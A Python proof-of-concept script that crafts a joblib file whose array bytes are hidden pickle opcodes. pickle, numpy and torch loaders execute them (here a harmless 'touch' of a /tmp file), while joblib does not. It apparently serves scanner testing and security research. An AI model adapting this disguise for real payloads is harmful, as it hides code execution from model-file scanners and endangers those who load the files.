#!/usr/bin/python3
"""A reader differential proved live: differential.joblib is a joblib file
(NumpyArrayWrapper without alignment, as joblib <= 1.1 writes it) whose
uint8 array bytes are pickle opcodes. joblib.load reads them as array data
and runs nothing; pickle.load, numpy.load(allow_pickle=True) and
torch.load(weights_only=False) -- which all read the file as a plain
pickle -- execute them: the payload creates /tmp/modelvet_joblib_proof.

Run with Debian's python3-joblib, -numpy, -torch: /usr/bin/python3 make.py
"""
import os
import pickle
import struct

PROOF = "/tmp/modelvet_joblib_proof"


def u(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


payload = b"cposix\nsystem\n" + u("touch " + PROOF) + b"\x85R0"
dtype = b"cnumpy\ndtype\n" + u("u1") + b"\x89\x88\x87R(K\x03" + u("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
state = u("subclass") + b"cnumpy\nndarray\n" + u("shape") + b"K" + bytes([len(payload)]) + b"\x85" + \
    u("order") + u("C") + u("dtype") + dtype + u("allow_mmap") + b"\x89"
data = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + state + b"ub" + payload + b"."
out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "differential.joblib")
with open(out, "wb") as f:
    f.write(data)


def run(name, load):
    if os.path.exists(PROOF):
        os.remove(PROOF)
    try:
        r = load()
    except Exception as e:  # torch.load fails after the pickle ran
        r = "raised " + type(e).__name__
    ran = os.path.exists(PROOF)
    print(f"{name}: payload ran = {ran} ({str(r)[:40]!r})")
    return ran


import joblib
import numpy as np
import torch
assert not run(f"joblib.load (joblib {joblib.__version__})", lambda: joblib.load(out))
assert run("pickle.load", lambda: pickle.load(open(out, "rb")))
assert run(f"numpy.load(allow_pickle=True) (numpy {np.__version__})", lambda: np.load(out, allow_pickle=True))
assert run(f"torch.load(weights_only=False) (torch {torch.__version__})", lambda: torch.load(out))
os.remove(PROOF)
